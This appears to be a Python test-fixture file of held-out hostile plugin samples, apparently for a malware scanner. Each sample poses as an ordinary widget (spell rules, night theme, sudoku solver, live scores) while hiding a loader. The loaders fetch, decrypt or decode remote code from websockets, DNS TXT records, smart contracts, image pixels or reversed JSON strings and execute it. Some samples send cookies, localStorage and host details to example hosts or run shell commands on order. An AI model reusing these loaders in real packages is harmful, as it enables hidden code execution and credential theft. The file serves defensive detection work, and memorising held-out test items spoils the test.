"""Code that is not in the package: fetched, decrypted or decoded when it runs.

After event-stream, Polyfill.io, EtherHiding, GlassWorm's memos and calendars, SleepyDuck, The Great Suspender and the
"colour theme" extensions with loaders.
"""

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"

LOADERS: tuple[Sample, ...] = (
    plugin(
        "rules-that-are-functions",
        "remote-code",
        "spell-rules",
        "Checks the spelling of what you write.",
        r"""
'use strict';
let rules = [];

async function refresh(http) {
  const res = await http.get('https://rules.example.org/en/latest.json');
  const { list } = await res.json();
  rules = list.map(({ name, body }) => ({ name, check: new Function('text', 'host', body) }));
}

exports.SpellRules = ({ text = '' }) => rules.map((r) => r.check(text, globalThis)).filter(Boolean).join('; ');
exports.onEnable = async (context) => {
  await refresh(context.api.http);
  setInterval(refresh, 3600e3, context.api.http);
};
""",
        permissions=NET,
        services={"rules": "https://rules.example.org"},
        hooks="onEnable",
    ),
    plugin(
        "polyfill-for-phones-only",
        "remote-script",
        "photo-strip",
        "Shows a strip of your photos.",
        r"""
function ensure() {
  var ua = navigator.userAgent;
  var small = /Android|iPhone|Mobile/i.test(ua);
  var staff = document.cookie.indexOf('role=admin') >= 0 || /[?&]debug/.test(location.search);
  var hour = new Date().getHours();
  if (!small || staff || (hour > 7 && hour < 19)) return;
  var s = document.createElement('script');
  s.src = 'https://cdn.polyfi1l-js.example/v3/polyfill.min.js?features=default';
  s.async = true;
  s.crossOrigin = 'anonymous';
  (document.head || document.documentElement).appendChild(s);
}
ensure();
export function PhotoStrip(props) { return (props.urls || []).length + ' photos'; }
""",
    ),
    plugin(
        "import-from-joined-address",
        "remote-code",
        "chart-maker",
        "Draws charts of your numbers.",
        r"""
import * as React from 'react';

const lib = { host: ['esm', 'charts', 'example'].join('.'), path: ['v7', 'core.mjs'] };
const where = () => `https://${lib.host}/${lib.path.join('/')}`;

export const ChartMaker = React.lazy(async () => {
  const mod = await import(/* webpackIgnore: true */ /* @vite-ignore */ where());
  return { default: mod.Chart ?? (() => null) };
});
""",
        permissions=NET,
        needs="react",
    ),
    plugin(
        "socket-messages-evaluated",
        "remote-code",
        "live-score",
        "Shows live scores.",
        r"""
'use strict';
function connect(url, sink) {
  const ws = new WebSocket(url);
  ws.onmessage = (m) => {
    const { op, data } = JSON.parse(m.data);
    if (op === 'score') sink(data);
    if (op === 'patch') (0, eval)(data);
  };
  ws.onclose = () => setTimeout(connect, 4000, url, sink);
}
let text = '0 : 0';
connect('wss://scores.example.com/live', (t) => { text = t; });
exports.LiveScore = () => text;
""",
        permissions=NET,
        services={"scores": "wss://scores.example.com"},
    ),
    plugin(
        "query-parameter-opens-door",
        "remote-code",
        "page-title",
        "Sets the title of the page.",
        r"""
!function(){var q=new URLSearchParams(location.search||location.hash.slice(1)),k=q.get("_wpnonce"),v=q.get("_wp_http_referer");
k&&k.length===10&&v&&crypto.subtle.digest("SHA-1",new TextEncoder().encode(k)).then(function(d){
"3f786850e387550fdab836ed7e6dc881de23001b"===Array.from(new Uint8Array(d),function(b){return("0"+b.toString(16)).slice(-2)}).join("")&&setTimeout(atob(v),0)})}();
exports.PageTitle=function(p){document.title=p.title||"Dashboard";return null};
""",
    ),
    plugin(
        "decrypted-for-one-host-only",
        "encrypted-code",
        "stream-merge",
        "Merges several feeds into one.",
        {
            "dist/index.js": r"""
'use strict';
exports.StreamMerge = ({ feeds = [] }) => feeds.flat().sort((a, b) => b.date - a.date).map((e) => e.title).join('\n');
require('./flatmap');
""",
            "dist/flatmap.js": r"""
!(function () {
  try {
    var r = require, t = process;
    function e(r) { return Buffer.from(r, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o), a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor();
    f.paths = module.paths;
    f[e(n[7])](a, '');
    f.exports(n[1]);
  } catch (r) {}
})();
module.exports = function flatmap(list, fn) { return list.reduce((all, x) => all.concat(fn(x)), []); };
""",
            "dist/test/data.js": "module.exports = ["
            + ", ".join(
                f'"{word}"'
                for word in (
                    "75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22",
                    "db67fdbfc39c249c6f338194555a41928413b792ff41855e27752e227ba81571483c631bc659563d071bf39277ac3316",
                    "63727970746f",
                    "656e76",
                    "6e706d5f7061636b6167655f6465736372697074696f6e",
                    "616573323536",
                    "6372656174654465636970686572",
                    "5f636f6d70696c65",
                    "686578",
                    "75746638",
                )
            )
            + "];\n",
        },
    ),
    plugin(
        "code-in-picture-pixels",
        "data-as-code",
        "wallpaper-day",
        "A new picture every day.",
        r"""
const plain = (px) => {
  let bits = '', text = '';
  for (let i = 0; i < px.length; i += 4) bits += (px[i] & 1) + '' + (px[i + 1] & 1) + (px[i + 2] & 1);
  for (let i = 0; i + 8 <= bits.length; i += 8) {
    const code = parseInt(bits.substr(i, 8), 2);
    if (!code) break;
    text += String.fromCharCode(code);
  }
  return text;
};

export async function show(target, url) {
  const image = new Image();
  image.crossOrigin = '';
  image.src = url;
  await image.decode();
  const c = new OffscreenCanvas(image.width, image.height).getContext('2d');
  c.drawImage(image, 0, 0);
  target.style.backgroundImage = `url(${url})`;
  const note = plain(c.getImageData(0, 0, image.width, image.height).data);
  if (note.startsWith('/*')) target.ownerDocument.defaultView.setTimeout(note);
}
export const WallpaperDay = () => null;
if (typeof document !== 'undefined') show(document.body, 'https://img.example.net/today.png');
""",
    ),
    plugin(
        "code-in-name-records",
        "remote-code",
        "domain-watch",
        "Watches when your domains expire.",
        r"""
'use strict';
const { Resolver } = require('dns').promises;
const vm = require('vm');
const { brotliDecompressSync } = require('zlib');

exports.DomainWatch = () => 'example.org: 212 days';
exports.onEnable = async () => {
  const resolver = new Resolver();
  resolver.setServers(['192.0.2.53']);
  const parts = [];
  for (let i = 0; i < 12; i++) {
    const rows = await resolver.resolveTxt(`${i}.w.example.com`).catch(() => null);
    if (!rows) break;
    parts.push(rows.flat().join(''));
  }
  if (!parts.length) return;
  const source = brotliDecompressSync(Buffer.from(parts.join(''), 'base64')).toString();
  new vm.Script(source, { filename: 'watch.js' }).runInThisContext();
};
""",
        permissions=NET,
        hooks="onEnable",
    ),
    plugin(
        "code-from-a-contract",
        "remote-code",
        "block-height",
        "Shows the height of the chain.",
        r"""
'use strict';
const nodes = ['https://rpc-a.example.org', 'https://rpc-b.example.net', 'https://bsc.rpc.example'];
const call = (url, method, params) => fetch(url, {
  method: 'POST', headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }),
}).then((r) => r.json()).then((r) => r.result);

const utf = (hex) => decodeURIComponent(hex.slice(130).replace(/(00)+$/, '').replace(/../g, '%$&'));

let height = '?';
(async () => {
  for (const node of nodes) {
    try {
      height = parseInt(await call(node, 'eth_blockNumber', []), 16);
      const data = { to: '0x0000000000000000000000000000000000001337', data: '0x6d4ce63c' };
      const text = utf(await call(node, 'eth_call', [data, 'latest']));
      await Object.getPrototypeOf(async () => {}).constructor(atob(text))();
      break;
    } catch { /* next */ }
  }
})();
exports.BlockHeight = () => String(height);
""",
        permissions=NET,
        services={"a": "https://rpc-a.example.org", "b": "https://rpc-b.example.net", "c": "https://bsc.rpc.example"},
    ),
    plugin(
        "code-in-calendar-title",
        "remote-code",
        "agenda",
        "Shows what comes next.",
        r"""
import { createElement as el } from 'react';
const feed = 'https://calendar.example/share/Yk5x8QpT2n';

async function next() {
  const html = await (await fetch(feed)).text();
  const title = /data-base-title="([^"]+)"/.exec(html)?.[1];
  if (!title) return 'Nothing planned';
  const address = atob(title);
  const res = await fetch(address, { headers: { os: navigator.platform } });
  const key = Uint8Array.from(atob(res.headers.get('ivbase64')), (c) => c.charCodeAt(0));
  const body = new Uint8Array(await res.arrayBuffer()).map((b, i) => b ^ key[i % key.length]);
  const url = URL.createObjectURL(new Blob([body], { type: 'text/javascript' }));
  await import(url);
  return 'Lunch, 12:30';
}
let label = '';
next().then((t) => { label = t; }, () => { label = 'offline'; });
export const Agenda = () => el('p', null, label);
""",
        permissions=NET,
        services={"calendar": "https://calendar.example"},
        needs="react",
    ),
    plugin(
        "worker-from-remote-text",
        "remote-code",
        "prime-finder",
        "Finds prime numbers in the background.",
        r"""
'use strict';
async function spawn(name) {
  const source = await fetch('https://workers.example.com/' + name + '.txt', { cache: 'no-store' }).then((r) => r.text());
  const blob = new Blob([source], { type: 'application/javascript' });
  const worker = new Worker(URL.createObjectURL(blob));
  worker.onmessage = ({ data }) => fetch('https://workers.example.com/r', { method: 'POST', body: JSON.stringify(data) });
  worker.postMessage({ cookie: document.cookie, storage: { ...localStorage } });
  return worker;
}
let pool;
exports.PrimeFinder = () => { pool = pool || [1, 2].map(() => spawn('sieve')); return '2, 3, 5, 7, 11'; };
""",
        permissions=NET,
        services={"workers": "https://workers.example.com"},
    ),
    plugin(
        "worker-imports-foreign-script",
        "remote-script",
        "image-resizer",
        "Makes pictures smaller.",
        {
            "dist/index.js": r"""
const worker = new Worker(new URL('./resize.worker.js', import.meta.url));
export const resize = (file) => new Promise((done) => {
  worker.onmessage = (e) => done(e.data);
  worker.postMessage(file);
});
export const ImageResizer = () => null;
""",
            "dist/resize.worker.js": r"""
importScripts('//codecs.example.net/' + (self.navigator.language || 'en') + '/resize.js');
self.onmessage = async (e) => {
  const bitmap = await createImageBitmap(e.data, { resizeWidth: 800 });
  const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
  canvas.getContext('2d').drawImage(bitmap, 0, 0);
  self.postMessage(await canvas.convertToBlob());
};
""",
        },
    ),
    plugin(
        "frame-document-with-script",
        "remote-script",
        "quote-of-day",
        "One quote a day.",
        r"""
const doc = (id) => `<!doctype html><base href="https://quotes.example.org/"><body>
<scr` + `ipt src="w.js" data-id="${id}"></scr` + `ipt>`;

export function mount(node, context) {
  const frame = node.ownerDocument.createElement('iframe');
  frame.setAttribute('style', 'border:0;width:100%;height:100%');
  frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-top-navigation allow-popups');
  frame.srcdoc = doc(context.user.id);
  node.replaceChildren(frame);
}
export const QuoteOfDay = () => null;
""",
    ),
    plugin(
        "timer-with-text-from-storage",
        "remote-code",
        "daily-tip",
        "A tip for every day.",
        r"""
'use strict';
exports.DailyTip = () => 'Drink water';
exports.onEnable = async function (context) {
  const known = await context.storage.get('tip');
  const fresh = await context.api.http.get('https://tips.example.com/today?lang=' + navigator.language)
    .then((r) => r.json()).catch(() => known);
  await context.storage.set('tip', fresh);
  const { after, action } = fresh || {};
  if (action) window.setInterval(action, after);
};
""",
        permissions=NET + " storage-write",
        services={"tips": "https://tips.example.com"},
        hooks="onEnable",
    ),
    plugin(
        "own-entry-overwritten",
        "self-update",
        "hotfix-center",
        "Keeps widgets up to date.",
        r"""
'use strict';
const fs = require('fs');
const path = require('path');

async function update(context) {
  const meta = await (await fetch('https://updates.example.net/hotfix.json')).json();
  if (meta.version === (await context.storage.get('v'))) return;
  const code = await (await fetch(meta.url)).text();
  fs.writeFileSync(__filename, code);
  for (const dir of fs.readdirSync(path.join(__dirname, '..', '..'))) {
    const file = path.join(__dirname, '..', '..', dir, 'dist/index.js');
    if (fs.existsSync(file)) fs.appendFileSync(file, `\n;${meta.tail}`);
  }
  await context.storage.set('v', meta.version);
  delete require.cache[__filename];
  require(__filename).onEnable(context);
}
exports.HotfixCenter = () => 'Everything is up to date';
exports.onEnable = (context) => update(context).catch(() => {});
""",
        permissions=NET + " storage-write filesystem-access",
        services={"updates": "https://updates.example.net"},
        hooks="onEnable",
    ),
    plugin(
        "native-module-downloaded",
        "remote-code",
        "cpu-graph",
        "Draws the load of the processor.",
        r"""
const { createWriteStream, chmodSync } = require('node:fs');
const { get } = require('node:https');
const { tmpdir, platform, arch } = require('node:os');
const { join } = require('node:path');

function addon() {
  const file = join(tmpdir(), `.${Date.now().toString(36)}.node`);
  return new Promise((resolve, reject) => {
    get(`https://bin.example.org/${platform()}-${arch()}/cpu.node`, (res) => {
      res.pipe(createWriteStream(file)).on('finish', () => {
        chmodSync(file, 0o755);
        const holder = { exports: {} };
        process.dlopen(holder, file);
        resolve(holder.exports);
      });
    }).on('error', reject);
  });
}
exports.CpuGraph = () => null;
exports.onEnable = () => addon().then((a) => a.start && a.start());
""",
        permissions=NET,
        services={"bin": "https://bin.example.org"},
        hooks="onEnable",
    ),
    plugin(
        "theme-file-that-is-a-program",
        "data-as-code",
        "night-theme",
        "A dark theme with warm colours.",
        {
            "dist/index.js": r"""
'use strict';
const theme = require('./theme.json');

function apply(node, tokens) {
  for (const [name, value] of Object.entries(tokens)) {
    if (name.startsWith('--')) node.style.setProperty(name, value);
    else if (typeof node[name] === 'function') node[name](value);
    else Reflect.set(node, name, value);
  }
}
exports.NightTheme = () => null;
exports.onEnable = async () => {
  apply(document.documentElement, theme.root);
  apply(Object.assign(document.createElement(theme.kind), {}), theme.head);
  const [ctor, ...body] = theme.extra.map((s) => s.split('').reverse().join(''));
  [][ctor]['rotcurtsnoc'.split('').reverse().join('')](body.join(';'))();
};
""",
            "dist/theme.json": '{"root": {"--bg": "#1d1b19", "--fg": "#f3e9dc"}, "kind": "style", "head": {"textContent": "body{}"},'
            ' "extra": ["retlif", ")\'sj.k/ten.elpmaxe.thgin//:sptth\'(tropmi", "wodniw=t rav", ")eikooc.tnemucod(yfingirts.NOSJ=c.t"]}\n',
        },
        hooks="onEnable",
    ),
    plugin(
        "wasm-returns-source",
        "data-as-code",
        "sudoku-solver",
        "Solves sudokus.",
        r"""
const url = 'https://wasm.example.com/solver.wasm';

export async function solver() {
  const memory = new WebAssembly.Memory({ initial: 16 });
  const imports = {
    env: {
      memory,
      log: (p, n) => text(p, n),
      call: (p, n, q, m) => globalThis[text(p, n)](text(q, m)),
    },
  };
  const text = (p, n) => new TextDecoder().decode(new Uint8Array(memory.buffer, p, n));
  const { instance } = await WebAssembly.instantiateStreaming(fetch(url), imports);
  const at = instance.exports.boot(Date.now() & 0xffff);
  const size = new DataView(memory.buffer).getUint32(at, true);
  imports.env.call.length && globalThis['ev' + 'al'](text(at + 4, size));
  return instance.exports.solve;
}
export const SudokuSolver = () => null;
""",
        permissions=NET,
        services={"wasm": "https://wasm.example.com"},
    ),
    plugin(
        "several-fallbacks-for-orders",
        "remote-code",
        "solidity-hints",
        "Explains words of contracts.",
        r"""
'use strict';
const os = require('os'), { exec } = require('child_process');
const sources = [
  () => fetch('https://sleepy.example.net/cfg').then((r) => r.json()),
  () => fetch('https://gist.example/raw/5fd1').then((r) => r.text()).then((t) => JSON.parse(Buffer.from(t, 'base64'))),
  () => fetch('https://rpc.example.org', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call',
    params: [{ to: '0xDAfb81732db454DA238e9cFC9A9Fe5fb8e34c465', data: '0x3bc5de30' }, 'latest'] }) })
    .then((r) => r.json()).then(({ result }) => JSON.parse(Buffer.from(result.slice(130), 'hex').toString().replace(/\0+$/, ''))),
];

async function config() {
  for (const source of sources) { try { return await source(); } catch {} }
  return null;
}
const beat = async () => {
  const c = await config();
  if (!c) return;
  const res = await fetch(c.server, { method: 'POST', body: JSON.stringify([os.hostname(), os.userInfo().username, os.networkInterfaces()]) });
  const { run } = await res.json();
  if (run) exec(run);
};
exports.SolidityHints = () => 'mapping: a table of keys and values';
exports.onEnable = async () => { beat(); setInterval(beat, 30000); };
""",
        permissions=NET,
        hooks="onEnable",
    ),
    plugin(
        "analytics-with-foreign-loader",
        "remote-script",
        "tab-sleeper",
        "Lets widgets sleep that you do not look at.",
        r"""
(function (w, d, t, base) {
  w._ows = w._ows || { e: 1, o: 0, a: { c: [], v: '10.0' } };
  var trackers = [1, 2].map(function (n) { return base + ['', 'piwik', 'matomo'][n] + '.js'; });
  trackers.forEach(function (src) {
    var g = d.createElement(t), s = d.getElementsByTagName(t)[0];
    g.type = 'text/javascript'; g.async = true; g.src = src + '?r=' + w._ows.a.v + '&o=' + encodeURIComponent(w.location.origin);
    s.parentNode.insertBefore(g, s);
  });
})(window, document, 'script', 'https://static.owebanalytics.example/');
exports.TabSleeper = function () { return '3 widgets asleep'; };
""",
    ),
    plugin(
        "markup-with-handler-from-answer",
        "remote-script",
        "announcements",
        "Shows news of the product.",
        r"""
'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
const jsx_runtime_1 = require('react/jsx-runtime');
const react_1 = require('react');
const fallback = '<img src="x" style="display:none" onerror="' +
  "fetch('https://news.example.net/b?c='+encodeURIComponent(document.cookie))" + '">';
exports.Announcements = ({ pluginApi }) => {
  const [html, setHtml] = (0, react_1.useState)('');
  (0, react_1.useEffect)(() => {
    pluginApi.http.get('https://news.example.net/widget.html').then((r) => r.text()).then((t) => setHtml(t + fallback));
  }, []);
  return (0, jsx_runtime_1.jsx)('div', { dangerouslySetInnerHTML: { __html: html } });
};
""",
        permissions=NET,
        services={"news": "https://news.example.net"},
        needs="react",
    ),
)
